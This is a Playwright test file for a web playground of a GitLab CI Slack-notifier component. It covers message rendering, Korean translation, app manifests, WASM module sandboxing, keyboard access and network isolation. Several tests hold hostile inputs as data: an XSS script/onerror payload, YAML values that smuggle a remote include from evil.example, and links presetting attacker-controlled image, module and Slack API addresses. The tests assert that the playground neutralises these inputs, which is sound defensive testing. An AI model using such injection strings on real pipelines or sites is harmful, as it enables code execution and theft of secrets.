// The playground shows every event, updates while somebody types, keeps hostile text as text, restores a state from a link, and runs
// a foreign module. No request goes elsewhere. People without a mouse or without sight can use it.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { after, before, test } from "node:test";
import { drawn, launch, open, serve, text } from "./page.mjs";

let server;
let browser;

before(async () => {
  [server, browser] = await Promise.all([serve(), launch()]);
});

after(async () => {
  await browser?.close();
  server?.close();
});

const STATES = {
  "pipeline started": "pipeline started",
  "build failed": "build failed",
  "deploy started": "deploy started",
  "deploy succeeded": "deploy succeeded",
  "deploy failed": "deploy failed",
  "deploy canceled": "deploy canceled",
  "deploy ran out of time": "deploy failed",
  "deployed again": "deployed again",
  "rolled back": "rolled back to 1a2b3c4d",
  "pipeline fixed": "pipeline fixed",
  "pipeline failed": "pipeline failed",
  "new and old failures": "test failed",
  "failed tests and the log": "test failed",
  "pipeline still failing": "still failing",
  "pipeline succeeded": "pipeline succeeded",
  "pipeline canceled": "pipeline canceled",
  "waiting for somebody": "waiting for manual job approve",
  "the digest of a week": "last 7 days",
};

function frame(page) {
  return page.frameLocator("#picture");
}

test("every event of every kind of pipeline is shown", async () => {
  const { page, seen } = await open(browser, server.url);
  const kinds = await page.locator("#kind option").allTextContents();
  assert.ok(kinds.length >= 8, kinds);
  assert.deepEqual(await page.locator("#event option").allTextContents(), Object.keys(STATES));
  await page.selectOption("#input-finish", "always");
  for (const kind of kinds) {
    await page.selectOption("#kind", kind);
    for (const [event, state] of Object.entries(STATES)) {
      await page.selectOption("#event", event);
      await drawn(page);
      const summary = await text(page, "summary");
      // A digest is about all environments, and about nobody.
      const [place, person] = event.includes("digest") ? ["", "$"] : [".*: ", "( \\(.*\\))?, by "];
      assert.match(summary, new RegExp(`^\\[shop-api\\] ${place}${state}${person}`), kind);
      assert.equal(JSON.parse(await text(page, "body")).text.includes(state), true);
      await frame(page).locator(".message", { hasText: state }).waitFor();
    }
  }
  assert.deepEqual(seen.errors, []);
  assert.equal(await text(page, "warnings"), "");
});

test("typing updates the message, the body and the include to paste", async () => {
  const { page } = await open(browser, server.url);
  await page.selectOption("#language", "ko");
  await page.fill("#input-mention", "subteam:S0TECHOPS1");
  await page.locator("summary", { hasText: "Variables of the job" }).click();
  await page.fill("#variables", "CI_PROJECT_NAME=storefront\nGITLAB_USER_NAME=박지우");
  await frame(page).locator(".message", { hasText: "배포 실패" }).waitFor();
  assert.match(await text(page, "summary"), /^\[storefront\] prod: 배포 실패 · 실행자 박지우/);
  assert.match(await text(page, "body"), /S0TECHOPS1/);
  const snippet = await text(page, "snippet");
  assert.match(snippet, /^include:\n {2}- component: \$CI_SERVER_FQDN\/devops\/pipeline-notifier\/notify@\d+\.\d+\.\d+\n {4}inputs:\n/);
  assert.match(snippet, /\n {6}language: "ko"\n/);
  assert.match(snippet, /\n {6}mention: "subteam:S0TECHOPS1"\n/);
  await page.locator("summary", { hasText: "Settings file" }).click();
  await page.fill("#file", '{"events": {"deploy-failed": {"text": "롤아웃 실패"}}}');
  await frame(page).locator(".message", { hasText: "롤아웃 실패" }).waitFor();
});

/** Returns the inputs of an include, as YAML gives them. */
function inputsOf(page, snippet) {
  return page.evaluate(async (yaml) => {
    const { parse } = await import("./yaml/index.js");
    return parse(yaml).include[0].inputs ?? {};
  }, snippet);
}

test("the include to paste has exactly the inputs of the shown message", async () => {
  const { page, seen } = await open(browser, server.url);
  const { inputs } = await page.evaluate(() => fetch("samples.json").then((it) => it.json()));
  const both = async () => [await inputsOf(page, await text(page, "snippet")), JSON.parse(await text(page, "context")).settings];
  // A text that any input without options takes, and the forms that some of them want.
  const values = { mention: "here", grafana_url: "https://grafana.example", module_sha256: "a".repeat(64), timeout: 7, log_lines: 9, webhook_variable: "TEAM_HOOK" };
  for (const address of ["package_url", "module_url", "app_url", "logs_url", "slack_api_url"]) values[address] = "https://files.example/a";
  const [before, settingsBefore] = await both();
  assert.deepEqual(before, { deploy_jobs: "deploy" });
  for (const details of await page.locator("#view-message details").all()) await details.evaluate((it) => (it.open = true));
  for (const { name, type, default: usual, options, for_module: isForModule } of inputs.filter(({ name }) => name !== "language")) {
    const control = page.locator(`#input-${name}`);
    const value = type === "boolean" ? !usual : options ? options.find((it) => it !== usual) : (values[name] ?? "a-b*");
    if (type === "boolean") await control.setChecked(value);
    else if (options) await control.selectOption(value);
    else await control.fill(String(value));
    const [shown, settings] = await both();
    assert.deepEqual(shown, { ...before, [name]: value }, name);
    assert.deepEqual(settings, { ...settingsBefore, ...(isForModule ? { [name]: String(value) } : {}) }, name);
    if (type === "boolean") await control.setChecked(usual);
    else if (options) await control.selectOption(usual);
    else await control.fill(String(before[name] ?? usual));
    assert.deepEqual(await both(), [before, settingsBefore], name);
  }
  // A number that is cleared is the default, and a list that is cleared is nothing.
  await page.fill("#input-timeout", "");
  await page.fill("#input-environments", "");
  const [shown, settings] = await both();
  assert.deepEqual(shown, { ...before, environments: "" });
  assert.equal(settings.environments, "");
  assert.match(await text(page, "summary"), /^\[shop-api\] main: /);
  assert.deepEqual(seen.errors, []);
});

test("the start of a pipeline can be left out", async () => {
  const { page } = await open(browser, server.url);
  await page.selectOption("#event", "pipeline started");
  await page.fill("#input-events", "deploy-*");
  assert.equal(await page.locator("#quiet-start").isChecked(), false);
  await page.fill("#input-events", "");
  await page.check("#quiet-start");
  await page.locator("#summary", { hasText: "not sent: " }).waitFor();
  assert.deepEqual(await inputsOf(page, await text(page, "snippet")), { deploy_jobs: "deploy", events: "!pipeline-started" });
  // What is not sent does not look sent.
  await frame(page).locator("body", { hasText: "not sent: " }).waitFor();
  assert.match(await page.locator("#picture").getAttribute("class"), /skipped/u);
  const { page: other } = await open(browser, page.url());
  assert.equal(await other.locator("#quiet-start").isChecked(), true);
  await page.uncheck("#quiet-start");
  await page.locator("#summary", { hasText: "pipeline started" }).waitFor();
  assert.doesNotMatch((await page.locator("#picture").getAttribute("class")) ?? "", /skipped/u);
  assert.equal(await page.inputValue("#input-events"), "");
});

test("the message is about the job that the inputs name", async () => {
  const { page } = await open(browser, server.url);
  for (const [jobs, job] of [["ship", " (ship)"], ["deploy-*, ship", " (ship)"], ["deploy-*", ","], ["배포; ship", " (배포)"]]) {
    await page.fill("#input-deploy_jobs", jobs);
    await page.locator("#summary", { hasText: `deploy failed${job}` }).waitFor();
  }
});

test("invalid values get a warning", async () => {
  const { page } = await open(browser, server.url);
  const warned = (what) => page.locator("#warnings li", { hasText: what }).first().waitFor();
  await page.fill("#input-grafana_url", "grafana");
  await warned("NOTIFIER_GRAFANA_URL: the result is not an http or https address");
  await page.fill("#input-grafana_url", "https://grafana.example");
  await page.fill("#input-loki_query", "{app=%{branch}}");
  await warned("NOTIFIER_LOKI_QUERY: %{branch} must be inside");
  await page.locator("summary", { hasText: "Settings file" }).click();
  await page.fill("#file", "{");
  await warned("the settings file is no JSON object: ");
  await page.locator("summary", { hasText: "Variables of the job" }).click();
  await page.fill("#variables", "nonsense");
  await warned("is not NAME=value");
});

test("hostile text stays text, and no script of it runs", async () => {
  const { page, seen } = await open(browser, server.url);
  const evil = `"><script>parent.hacked=1;document.title="hacked"</script><img src=x onerror="parent.hacked=1"> <!channel>`;
  await page.locator("summary", { hasText: "Variables of the job" }).click();
  await page.fill("#variables", ["CI_COMMIT_TITLE", "CI_PROJECT_NAME", "GITLAB_USER_NAME", "CI_COMMIT_BRANCH", "CI_JOB_NAME"].map((name) => `${name}=${evil}`).join("\n"));
  await page.fill("#input-app_url", "javascript:alert(1)");
  await frame(page).locator(".message", { hasText: "<script>" }).waitFor();
  const inside = page.frames().find((it) => it !== page.mainFrame());
  assert.equal(await inside.locator("script, img, [onerror]").count(), 0);
  assert.equal(await page.evaluate(() => window.hacked ?? document.title), "pipeline-notifier playground");
  assert.equal(await page.locator("main script, main img").count(), 0);
  assert.equal(await inside.locator("a[href^=javascript]").count(), 0);
  assert.deepEqual(seen.errors, []);
});

test("a link restores the playground", async () => {
  const { page } = await open(browser, server.url);
  await page.selectOption("#event", "deploy succeeded");
  await page.selectOption("#kind", "tag");
  await page.selectOption("#theme", "dark");
  await page.fill("#input-app_url", "https://shop.example/한글?a=b&c");
  await drawn(page);
  const [link, body, snippet] = [page.url(), await text(page, "body"), await text(page, "snippet")];
  const other = await open(browser, link);
  assert.equal(await text(other.page, "body"), body);
  assert.equal(await text(other.page, "snippet"), snippet);
  assert.equal(await other.page.inputValue("#theme"), "dark");
  // A cut or invented link opens a new playground.
  for (const broken of ["#" + btoa('{"view":"nope","theme":"pink","event":"x"}'), "#garbage", "#" + btoa("[]"), "#" + btoa('{"event":7,"inputs":"x"}')]) {
    const { page: fresh, seen } = await open(browser, server.url + broken);
    assert.match(await text(fresh, "summary"), /deploy failed/);
    assert.deepEqual(seen.errors, []);
  }
  await page.click("#reset");
  await page.locator("#summary", { hasText: "deploy failed" }).waitFor();
});

/** Returns the address of a state. */
const linkTo = (state) => `${server.url}#${Buffer.from(JSON.stringify(state)).toString("base64url")}`;

// Case S1: nothing but numbers, booleans and quoted text gets into the include.
test("a link brings no YAML into the include", async () => {
  const evil = "5\n- remote: https://evil.example/x.yml";
  for (const inputs of [
    { timeout: evil },
    { compare: `false${evil}` },
    { timeout: [evil] },
    { compare: "false" },
    { finish: evil },
    { timeout: 1e999 },
    { language: `ko"${evil}` },
    { mention: "a\u2028- remote: https://evil.example/x.yml" },
    { start_job: `x"${evil}` },
    { __proto__: { timeout: evil } },
  ]) {
    const { page, seen } = await open(browser, linkTo({ inputs: { deploy_jobs: "deploy", ...inputs } }));
    const snippet = await text(page, "snippet");
    const included = await page.evaluate(async (yaml) => (await import("./yaml/index.js")).parse(yaml), snippet);
    assert.deepEqual([included.include.length, Object.keys(included)], [1, ["include"]], snippet);
    await page.click("#tab-pipeline");
    await page.fill("#pipeline", "deploy:\n  script: [make]\n");
    await page.locator("#proposed:not(:empty)").waitFor({ state: "attached" });
    assert.doesNotMatch(await text(page, "proposed"), /^\s*- remote:/mu);
    assert.deepEqual(seen.errors, []);
    await page.context().close();
  }
});

// Case S2: a link decides neither which code runs nor where secrets go.
test("a link presets no code and no address for secrets", async () => {
  const inputs = {
    image: "docker.io/evil/curl:1",
    package_url: "https://evil.example",
    module_url: "https://evil.example/x.wasm",
    module_sha256: "a".repeat(64),
    allow_hosts: "evil.example",
    slack_api_url: "https://evil.example/api",
    webhook_variable: "OTHER_HOOK",
  };
  const { page } = await open(browser, linkTo({ inputs: { ...inputs, mention: "here" } }));
  assert.deepEqual(await inputsOf(page, await text(page, "snippet")), { mention: "here" });
  // Who enters one sees it in the include, and shares no link with it.
  await page.locator("summary", { hasText: "Jobs and delivery" }).click();
  await page.fill("#input-package_url", "https://mirror.example/files");
  assert.deepEqual(await inputsOf(page, await text(page, "snippet")), { mention: "here", package_url: "https://mirror.example/files" });
  const other = await open(browser, page.url());
  assert.deepEqual(await inputsOf(other.page, await text(other.page, "snippet")), { mention: "here" });
});

test("the whole playground is in Korean, too", async () => {
  const { page, seen } = await open(browser, server.url, { locale: "ko-KR" });
  assert.equal(await page.locator("html").getAttribute("lang"), "ko");
  const keys = await page.evaluate(async () => {
    const korean = (await import("./words/ko.js")).page;
    const used = ["data-words", "data-words-label", "data-words-title"].flatMap((it) => [...document.querySelectorAll(`[${it}]`)].map((at) => at.getAttribute(it)));
    return { used: [...new Set(used)].toSorted(), known: Object.keys(korean).toSorted() };
  });
  assert.deepEqual(keys.used, keys.known);
  // Everything is Korean, except names of GitLab, of Slack and our own.
  for (const view of ["message", "pipeline", "app"]) {
    await page.click(`#tab-${view}`);
    for (const it of await page.locator(`#view-${view}`).locator("[data-words]:visible, small:visible, option").all()) {
      const text = (await it.textContent()).trim();
      assert.match(text, /[가-힣]|^(English|name|path|failure|change|always|never|none|fetch|clone)$/u, text);
    }
  }
  await page.selectOption("#ui", "en");
  assert.equal(await text(page, "message-title"), "Message");
  await page.click("#tab-message");
  assert.deepEqual(await page.locator("#kind option").first().textContent(), "branch main");
  assert.deepEqual(seen.errors, []);
});

test("a bot's message is shown with its thread, the operators' with the first message", async () => {
  const { page } = await open(browser, server.url);
  await page.selectOption("#audience", "bot");
  await frame(page).locator(".message").nth(1).waitFor();
  const captions = () => frame(page).locator("body").innerText();
  assert.match(await captions(), /The pipeline's message, updated[^]*In its thread, and shown in the channel too/u);
  assert.match(await frame(page).locator(".message").first().innerText(), /Branch/u);
  assert.doesNotMatch(await frame(page).locator(".message").nth(1).innerText(), /Branch/u);
  await page.selectOption("#event", "pipeline started");
  await frame(page).locator("body", { hasText: "posted by the first event" }).waitFor();
  assert.equal(await frame(page).locator(".message").count(), 1);
  await page.selectOption("#audience", "operators");
  await page.locator("#summary", { hasText: "not sent" }).waitFor();
  await page.selectOption("#event", "deploy failed");
  await page.fill("#input-ops_mention", "subteam:S0OPERATOR");
  await page.locator("#body", { hasText: "S0OPERATOR" }).waitFor({ state: "attached" });
  assert.match(await text(page, "body"), /shop\.slack\.com\/archives/u);
});

test("the app's manifest has exactly the scopes of its features", async () => {
  const { page } = await open(browser, server.url);
  await page.click("#tab-app");
  const made = async () => JSON.parse(await text(page, "manifest"));
  const scopes = async () => (await made()).oauth_config.scopes.bot;
  assert.deepEqual(await scopes(), ["chat:write", "chat:write.public", "channels:history", "users:read", "users:read.email"]);
  await page.locator("#features label", { hasText: "private channels" }).click();
  // The docs and `doctor` name them, too.
  const named = (path) => readFileSync(new URL(path, import.meta.url), "utf8");
  for (const scope of await scopes()) assert.ok(named("../../docs/bot.md").includes(`\`${scope}\``), scope);
  const classic = ["bot:basic", "chat:write:bot"];
  const quoted = named("../../runner/src/commands/doctor/slack.rs").match(/"[a-z]+:[a-z.:]+"/gu).map((it) => JSON.parse(it));
  const asked = quoted.filter((it) => !classic.includes(it));
  assert.ok(asked.length > 2 && asked.every((scope) => named("../../playground/page/manifest.js").includes(scope)), asked);
  await page.locator("#features label", { hasText: "mentions people" }).click();
  await page.locator("#features label", { hasText: "not invited to" }).first().click();
  assert.deepEqual(await scopes(), ["chat:write", "channels:history", "groups:history"]);
  // A bot's direct messages need the tab.
  assert.equal((await made()).features.app_home.messages_tab_enabled, true);
  const link = new URL(await page.locator("#create").getAttribute("href"));
  assert.equal(link.host, "api.slack.com");
  assert.deepEqual(JSON.parse(link.searchParams.get("manifest_json")), await made());
  await page.locator("label", { hasText: "GovSlack" }).click();
  assert.match(await page.locator("#create").getAttribute("href"), /^https:\/\/api\.slack-gov\.com\/apps\?new_app=1&manifest_json=/u);
  await page.locator("label", { hasText: "incoming webhook" }).click();
  assert.deepEqual(await scopes(), ["incoming-webhook"]);
  assert.equal((await made()).features.app_home, undefined);
  assert.match(await text(page, "then"), /SLACK_WEBHOOK_URL/u);
  // A link shares the app.
  const other = await open(browser, page.url());
  assert.deepEqual(JSON.parse(await text(other.page, "manifest")), await made());
});

test("a missing part is reported with the next step", async () => {
  for (const [part, said] of [["page.js", "page.js"], ["words/ko.js", "page.js"], ["notifier.js", "page.js"], ["notifier_bg.wasm", "notifier_bg.wasm"], ["samples.json", "samples.json"], ["pipeline/read.js", "pipeline.js"]]) {
    for (const locale of ["en-US", "ko-KR"]) {
      const context = await browser.newContext({ locale });
      const page = await context.newPage();
      await page.route(`**/${part}`, (route) => route.fulfill({ status: 404 }));
      await page.goto(server.url);
      if (part.startsWith("pipeline/")) await page.click("#tab-pipeline");
      await page.locator("#failed", { hasText: said }).waitFor({ timeout: 8000 });
      assert.match(await text(page, "failed"), locale === "ko-KR" ? /불러오지 못했습니다/u : /could not load .* Reload it/u);
      assert.equal(await page.locator("#loading").isVisible(), false);
      await context.close();
    }
  }
  const opened = await (await browser.newContext()).newPage();
  await opened.goto(new URL("../../target/playground/index.html", import.meta.url).href);
  await opened.locator("#failed", { hasText: "make playground" }).waitFor({ timeout: 8000 });
});

test("themes and widths change only the picture", async () => {
  const { page } = await open(browser, server.url);
  const colour = () => frame(page).locator("body").evaluate((body) => getComputedStyle(body).backgroundColor);
  const [light, body] = [await colour(), await text(page, "body")];
  await page.selectOption("#theme", "dark");
  await frame(page).locator('html[style*="dark"]').waitFor();
  assert.notEqual(await colour(), light);
  await page.selectOption("#width", "phone");
  assert.equal((await page.locator("#picture").boundingBox()).width, 390);
  assert.equal(await text(page, "body"), body);
});

/** Returns a guest of the integration tests, as WebAssembly. */
function guest(name) {
  return { name: `${name}.wasm`, mimeType: "application/wasm", buffer: readFileSync(`${process.env.GUESTS}/${name}.wasm`) };
}

test("a foreign module runs, and one that misbehaves gets a warning", { skip: !process.env.GUESTS && "no guests" }, async () => {
  const { page } = await open(browser, server.url);
  await page.locator("summary", { hasText: "A module of your own" }).click();
  await page.setInputFiles("#module", guest("says-hello"));
  await page.locator("#which", { hasText: "says-hello.wasm" }).waitFor();
  assert.deepEqual(JSON.parse(await text(page, "body")), { text: "hello from a team's module" });
  await frame(page).locator(".message", { hasText: "hello from a team's module" }).waitFor();
  await page.setInputFiles("#module", guest("message"));
  await page.locator("#body", { hasText: "From Rust" }).waitFor({ state: "attached" });
  assert.match(JSON.parse(await text(page, "body")).text, /^From Rust: shop-api, deploy failed on main/);
  for (const [name, fault] of [
    ["loops-forever", "it ran longer than a module may"],
    ["sleeps", "poll_oneoff, which the sandbox does not give"],
    ["has-no-start", "it exports no function `_start`"],
    ["exits-with-seven", "it ended with exit status 7"],
    ["floods-stdout", "it wrote more than 65536 bytes"],
    ["says-nothing", "the output is no message"],
    ["says-it-in-another-version", "the output has version 2, not 1"],
  ]) {
    await page.setInputFiles("#module", guest(name));
    await page.locator("#warnings li", { hasText: fault }).waitFor();
  }
  await page.setInputFiles("#module", guest("message"));
  await page.click("#forget");
  await page.locator("#which", { hasText: "built-in" }).waitFor();
});

test("a dropped file goes to its view", async () => {
  const { page } = await open(browser, server.url);
  await page.click("#tab-pipeline");
  const drop = (name, content) => page.evaluate(([name, content]) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File([content], name));
    document.body.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true, cancelable: true }));
  }, [name, content]);
  await drop(".gitlab-ci.yml", "deploy:\n  script: [make]\n");
  await page.locator("#proposed", { hasText: "extends: .notify" }).waitFor();
  await drop("bad.wasm", "no module");
  await page.locator("#warnings li", { hasText: "bad.wasm" }).waitFor();
  assert.equal(await page.locator("#view-message").isVisible(), true);
});

test("no request goes elsewhere", async () => {
  const { page, seen } = await open(browser, server.url);
  assert.ok(seen.requests.every((url) => url.startsWith(server.url)), seen.requests);
  const loaded = seen.requests.length;
  await page.fill("#input-app_url", "https://elsewhere.example/");
  await page.selectOption("#event", "deploy succeeded");
  await drawn(page);
  const answered = await page.evaluate(() => fetch("https://elsewhere.example/").then(() => true, () => false));
  assert.equal(answered, false);
  // A new picture requests its fonts from the playground's own server.
  assert.deepEqual(seen.requests.slice(loaded).filter((url) => !url.startsWith(`${server.url}fonts`)), []);
  assert.match(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content"), /default-src 'none'/);
});

test("the playground works by keyboard", async () => {
  const { page } = await open(browser, server.url);
  const reached = new Set();
  for (let step = 0; step < 80; step += 1) {
    await page.keyboard.press("Tab");
    reached.add(await page.evaluate(() => document.activeElement?.id || document.activeElement?.textContent.trim()));
  }
  // Arrow keys change the tab. A checkbox of the jobs keeps the focus.
  await page.focus("#tab-message");
  await page.keyboard.press("ArrowRight");
  assert.equal(await page.evaluate(() => document.activeElement.id), "tab-pipeline");
  await page.locator("#pipeline").waitFor();
  await page.fill("#pipeline", "deploy:\n  script: [make]\nbuild:\n  script: [make]\n");
  await page.focus("#jobs [value=build]");
  await page.keyboard.press("Space");
  await page.locator("#proposed", { hasText: "deploy,build" }).waitFor();
  assert.equal(await page.evaluate(() => document.activeElement.value), "build");
  await page.goBack();
  await page.locator("#view-message").waitFor();
  await page.goForward();
  await page.locator("#view-pipeline").waitFor();
  for (const control of ["event", "kind", "language", "input-mention", "theme", "width", "reset", "snippet", "Variables of the job"]) {
    assert.ok(reached.has(control), `${control} is not among ${[...reached].join(", ")}`);
  }
});

test("axe finds no fault in either theme", async () => {
  const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
  for (const colorScheme of ["light", "dark"]) {
    const { page } = await open(browser, server.url, { colorScheme, bypassCSP: true });
    await page.evaluate(axe);
    for (const view of ["app", "pipeline", "message"]) {
      await page.click(`#tab-${view}`);
      if (view === "pipeline") await page.fill("#pipeline", "deploy:\n  tags: [a]\n  script: make\n");
      for (const summary of await page.locator(`#view-${view} summary`).all()) await summary.click();
      const { violations, passes } = await page.evaluate(() => axe.run(document, { iframes: false }));
      assert.deepEqual(violations.map((it) => `${view}: ${it.id}: ${it.nodes.map((node) => node.target).join(" ")}`), []);
      assert.ok(passes.length > 20);
    }
    // No script may run in the picture's frame, so axe checks the picture as a page of its own.
    const picture = await page.locator("#picture").getAttribute("srcdoc");
    const alone = await (await browser.newContext({ bypassCSP: true })).newPage();
    await alone.setContent(picture);
    await alone.evaluate(axe);
    const inside = await alone.evaluate(() => axe.run(document, { rules: { "page-has-heading-one": { enabled: false }, "document-title": { enabled: false } } }));
    assert.deepEqual(inside.violations.map((it) => `${it.id}: ${it.nodes.map((node) => node.target).join(" ")}`), []);
  }
});
